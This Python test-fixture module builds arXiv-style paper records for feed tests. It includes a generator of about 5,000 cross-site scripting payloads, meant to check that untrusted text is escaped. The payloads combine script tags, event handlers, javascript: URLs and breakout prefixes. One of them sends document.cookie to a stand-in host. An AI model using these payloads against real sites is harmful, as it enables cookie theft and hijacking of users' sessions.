"""Records for the proofs of feeds: the sample, recorded papers, hostile strings, and payloads."""

import gzip
import json
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from itertools import cycle, product
from pathlib import Path
from typing import Any

from paperpost.domain.enrichments import Enrichment, EnrichmentState, text_hash
from paperpost.domain.papers import AnnounceType, Author, Listing, Paper
from paperpost.domain.records import Record, read_lines
from paperpost.fetch.feeds import read_feed
from paperpost_cli.laptop import ROOT

DATA = ROOT.parent / "shared" / "data"
_SAMPLE = ROOT / "events" / "records.jsonl"
_FEEDS = ("stat_2024-03-26.rss.xml", "quant-ph_2025-04-28.excerpt.rss.xml")
_ON = date(2026, 4, 21)


def sample() -> list[Record]:
    """The sample day's records in cs.CV."""
    lines = _SAMPLE.read_text(encoding="utf-8").splitlines()
    return [r for r in read_lines(lines, name="sample") if r.listing.category == "cs.CV"]


def busy(papers: int) -> list[Record]:
    """Two made-up days with so many papers in all, in the words of the sample."""
    told = [r for r in sample() if not r.listing.announce_type.is_replacement]
    made = []
    for n, record in zip(range(papers), cycle(told), strict=False):
        arxiv_id, on = f"2604.{n + 10_000}", _ON + timedelta(days=n % 2)
        listing = replace(record.listing, arxiv_id=arxiv_id, announced_on=on)
        paper = replace(record.paper, arxiv_id=arxiv_id)
        made.append(replace(record, paper=paper, listing=listing))
    return made


def hostile() -> list[Record]:
    """A record for each hostile string, which stands in every field."""
    lines = (DATA / "hostile" / "hostile.jsonl").read_text(encoding="utf-8").splitlines()
    return of_texts([json.loads(line)["text"] for line in lines])


def recorded() -> Iterator[tuple[str, list[Record]]]:
    """Every recorded paper: announcement feeds, the days of cs.CV, and those with Chinese text."""
    for name in _FEEDS:
        body = (DATA / "arxiv-rss" / name).read_bytes()
        items = read_feed(body, source=name).items
        yield name, [_record(i.arxiv_id, i.title, i.abstract, i.authors) for i in items]
    for path in sorted((DATA / "arxiv-rss" / "daily-series").glob("*.gz")):
        yield path.name, day_of_series(path)
    with gzip.open(DATA / "papers" / "papers-2000.jsonl.gz", "rt", encoding="utf-8") as file:
        papers = [_translated(json.loads(line)) for line in file]
    for start in range(0, len(papers), 500):
        yield f"papers from {start}", papers[start : start + 500]


def day_of_series(path: Path) -> list[Record]:
    """One recorded day of cs.CV, with its announce types."""
    told = json.loads(gzip.decompress(path.read_bytes()))
    return [
        _record(
            one["arxiv_id"],
            one["title"],
            one["abstract"],
            [Author(name=name) for name in one["authors"]],
            categories=tuple(dict.fromkeys((one["primary_category"], *one["categories"]))),
            on=date.fromisoformat(told["date"]),
            announce_type=AnnounceType(one["announce_type"]),
        )
        for one in told["papers"]
    ]


def of_texts(texts: Sequence[str]) -> list[Record]:
    """A record for each text, which is its title, abstract, author and translation at once."""
    return [
        _record(f"2604.{n:05}", text, text, [Author(name=text)], zh=(text, text, text), model=text)
        for n, text in enumerate(texts, 10_000)
    ]


def payloads(count: int) -> list[str]:
    """The first *count* of some 5,000 texts that run in a browser if they are not escaped."""
    run = ("alert(1)", "fetch('//a.example/'+document.cookie)", "top.location='//a.example'")
    before = ("", "</p>", '">', "'>", "]]>", "-->", "</title>", "</script>", "&lt;", "$x<y$ ")
    spelled: tuple[Callable[[str], str], ...] = (
        str,
        str.upper,
        str.title,
        lambda t: t.replace(" ", "/"),
        lambda t: f"\x0b{t}\u200b",
    )
    made = (
        f"{start}{spell(shape)}".replace("RUN", code).replace("Run", code).replace("run", code)
        for code, start, spell, shape in product(run, before, spelled, _SHAPES)
    )
    return [text for text, _ in zip(dict.fromkeys(made), range(count), strict=False)]


_SHAPES = (
    "<script>run</script>",
    "<script src=//a.example/x.js></script>",
    "<img src=x onerror=run>",
    "<svg onload=run>",
    "<svg><script>run</script></svg>",
    "<svg><animate onbegin=run attributeName=x dur=1s>",
    "<iframe src=javascript:run></iframe>",
    "<iframe srcdoc='<script>run</script>'></iframe>",
    "<object data=javascript:run>",
    "<embed src=javascript:run>",
    "<a href=javascript:run>x</a>",
    "<a href='java\tscript:run'>x</a>",
    "<a href=data:text/html,<script>run</script>>x</a>",
    "<body onload=run>",
    "<details open ontoggle=run>",
    "<video><source onerror=run></video>",
    "<audio src=x onerror=run>",
    "<input autofocus onfocus=run>",
    "<select autofocus onfocus=run>",
    "<textarea autofocus onfocus=run>",
    "<marquee onstart=run>",
    "<form action=javascript:run><button>x</button></form>",
    "<button formaction=javascript:run>x</button>",
    "<isindex action=javascript:run>",
    "<meta http-equiv=refresh content='0;url=javascript:run'>",
    "<base href=javascript:run//>",
    "<link rel=stylesheet href=//a.example/x.css>",
    "<style>@import '//a.example/x.css';</style>",
    "<p style=background:url(javascript:run)>x",
    "<math><mtext><script>run</script></mtext></math>",
    "<math href=javascript:run>x</math>",
    "<template><script>run</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=run>'>",
    "<x onclick=run tabindex=1 id=x>",
    "<p onmouseover=run>x</p>",
    "onclick=run x=",
    "{{run}}{% raw %}<script>run</script>",
    "&#60;script&#62;run&#60;/script&#62;",
)


def _translated(one: dict[str, Any]) -> Record:
    told = (one["translated_title"], one["translated_abstract"], one["tldr"])
    return _record(one["id"], one["title"], one["abstract"], [Author(name="Ada")], zh=told)


def _record(
    arxiv_id: str,
    title: str,
    abstract: str,
    authors: Sequence[Author],
    *,
    categories: tuple[str, ...] = ("cs.CV",),
    on: date = _ON,
    announce_type: AnnounceType = AnnounceType.NEW,
    zh: tuple[str, str, str] | None = None,
    model: str = "a model",
) -> Record:
    paper = Paper(
        arxiv_id=arxiv_id,
        version=1,
        title=title,
        abstract=abstract,
        authors=tuple(authors),
        categories=categories,
    )
    at = datetime.combine(on, datetime.min.time(), UTC)
    enrichments = {}
    if zh is not None:
        enrichments["zh"] = Enrichment(
            arxiv_id=arxiv_id,
            language="zh",
            state=EnrichmentState.OK,
            text_hash=text_hash(paper),
            model=model,
            prompt_version="1",
            updated_at=at,
            title=zh[0],
            abstract=zh[1],
            tldr=zh[2],
        )
    listing = Listing(
        category="cs.CV",
        announced_on=on,
        arxiv_id=arxiv_id,
        version=1,
        announce_type=announce_type,
        stored_at=at,
    )
    return Record(paper=paper, listing=listing, enrichments=enrichments)
